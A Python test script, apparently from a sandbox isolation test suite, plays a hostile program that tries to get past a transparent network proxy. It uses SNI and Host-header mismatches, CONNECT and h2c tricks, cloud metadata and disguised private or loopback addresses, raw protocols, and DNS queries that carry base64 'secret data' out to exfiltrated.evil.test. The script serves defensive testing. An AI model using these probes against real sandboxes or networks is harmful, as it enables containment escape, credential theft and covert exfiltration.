"""What a hostile program tries in a sandbox whose network is transparent. Runs there as `python3
transparent_attacks.py ATTACK PORT...`, prints what came of it as JSON. Standard library only."""

import json
import socket
import ssl
import struct
import sys


def resolved(name: str, family: int = socket.AF_INET) -> str:
    return str(socket.getaddrinfo(name, 1, family, socket.SOCK_STREAM)[0][4][0])


def tls(address: str, port: int, sni: str | None) -> str:
    """What becomes of a TLS connection to an address that names a host."""
    context = ssl.create_default_context()
    context.check_hostname = False
    with socket.create_connection((address, port), 30) as sock:
        try:
            with context.wrap_socket(sock, server_hostname=sni) as stream:
                stream.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                return stream.recv(4096).decode()
        except (ssl.SSLError, ConnectionError) as error:
            return f"{type(error).__name__}: {error}"


def said(address: str, port: int, data: bytes) -> str:
    """What comes back for raw bytes, until the end."""
    came = b""
    with socket.create_connection((address, port), 30) as sock:
        sock.settimeout(30)
        sock.sendall(data)
        try:
            while block := sock.recv(65536):
                came += block
        except ConnectionError:
            pass
    return came.decode("latin-1")


def request(host: str, path: str = "/", *lines: str) -> bytes:
    return "\r\n".join((f"GET {path} HTTP/1.1", f"Host: {host}", *lines, "", "")).encode()


def lies(https: int, http: int) -> object:
    """TLS to one name's address that names another, or none."""
    site, other = resolved("site.test"), resolved("other.test")
    return {
        "lying": tls(site, https, "other.test"),
        "other entry": tls(other, https, "site.test"),
        "none": tls(site, https, None),
        "lying v6": tls(resolved("site.test", socket.AF_INET6), https, "other.test"),
        "looked into": tls(resolved("looked.test"), https, "site.test"),
    }


def truth(https: int, http: int) -> object:
    """The same without the lie."""
    return {name: tls(resolved(name), https, name) for name in ("site.test", "other.test")}


def hosts(https: int, http: int) -> object:
    """HTTP to one name's address that names another."""
    site = resolved("site.test")
    return {
        "lying": said(site, http, request("other.test")),
        "port": said(site, http, request(f"site.test:{http + 1}")),
        "twice": said(site, http, request("site.test", "/", "Host: other.test")),
        "absolute": said(site, http, request("site.test", f"http://other.test:{http}/")),
        "connect": said(
            site, http, b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"
        ),
        "upgrade": said(
            site,
            http,
            request("site.test", "/", "Upgrade: h2c", "Connection: Upgrade", "HTTP2-Settings: AAA"),
        ),
        "second": said(site, http, request(f"site.test:{http}") + request("other.test")),
    }


def addresses(https: int, http: int) -> object:
    """Addresses that nobody may reach, and some that nobody allowed."""
    found = {}
    for address in (
        "169.254.169.254",
        "10.1.2.3",
        "::ffff:10.1.2.3",
        "64:ff9b::a9fe:a9fe",
        "fd00::1",
        "100.100.100.200",
        "2002:7f00:1::",
        "fe80::1%lo",
    ):
        found[address] = said(address, http, request(f"[{address}]" if ":" in address else address))
        found[f"tls {address}"] = tls(address, https, None)
        found[f"lying {address}"] = tls(address, https, "site.test")
    found["198.18.0.2"] = said("198.18.0.2", http, request("198.18.0.2"))
    for name in ("inner.test", "metadata.test"):
        found[name] = said(resolved(name), 80, request(name))
        found[f"tls {name}"] = tls(resolved(name), 443, name)
    return found


def loopback(https: int, http: int, operator: int) -> object:
    """The host's own listeners, by any spelling of loopback, and by a name that means it."""
    found = {}
    for address in ("127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "127.1.1.1"):
        for port in (http, operator, 22):
            try:
                found[f"{address} {port}"] = said(address, port, request("127.0.0.1"))
            except OSError as error:
                found[f"{address} {port}"] = type(error).__name__
    found["supervisor"] = said(
        resolved("supervisor.test"), operator, request(f"supervisor.test:{operator}")
    )
    found["supervisor tls"] = tls(resolved("supervisor.test"), operator, "supervisor.test")
    for port in (3128, 3129, 3701):
        found[f"own {port}"] = said(
            resolved("supervisor.test"), port, request(f"supervisor.test:{port}")
        )
    return found


def raw(https: int, http: int) -> object:
    """What is neither TLS nor HTTP."""
    site = resolved("site.test")
    early = said(site, http, b"\r\n\r\n")
    return {
        "ssh": said(site, 22, b"SSH-2.0-client\r\n\r\n"),
        "binary": said(site, https, bytes(range(32, 128)) + b"\n"),
        "lower": said(site, http, b"get / http/1.1\r\n\r\n"),
        "blank": early,
        "tls rubbish": said(site, https, b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00")
        .encode("latin-1")
        .hex(),
        "h2c": said(site, http, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        "names by tcp": said(site, 53, b"\x00\x05rubbish"),
    }


def query(name: str, kind: int) -> bytes:
    head = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0)
    return (
        head
        + b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        + struct.pack("!BHH", 0, kind, 1)
    )


def datagrams(https: int, http: int) -> object:
    """Names as a way out, and datagrams."""
    found: dict[str, object] = {}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(30)
        sock.connect(("127.0.0.1", 53))
        for kind in (16, 65, 64, 10, 255, 1):
            sock.send(query("c2VjcmV0IGRhdGE.exfiltrated.evil.test", kind))
            came = sock.recv(4096)
            found[f"kind {kind}"] = (came[3] & 15, struct.unpack_from("!H", came, 6)[0])
    with socket.create_connection(("192.0.2.53", 53), 30) as stream:
        asked = query("site.test", 1)
        stream.sendall(len(asked).to_bytes(2, "big") + asked)
        length = int.from_bytes(stream.recv(2), "big")
        found["by tcp"] = socket.inet_ntoa(stream.recv(length)[-4:]) == resolved("site.test")
    for family, where in (
        (socket.AF_INET, ("192.0.2.1", 443)),
        (socket.AF_INET, (resolved("site.test"), 443)),
        (socket.AF_INET6, ("2001:db8::1", 443)),
    ):
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(30)
            sock.connect(where)
            try:
                sock.send(b"\xc0" + bytes(1200))
                sock.recv(10)
                found[f"udp {where[0]}"] = "answered"
            except OSError as error:
                found[f"udp {where[0]}"] = type(error).__name__
    return found


if __name__ == "__main__":
    attack, *numbers = sys.argv[1:]
    print(json.dumps(globals()[attack](*map(int, numbers))))
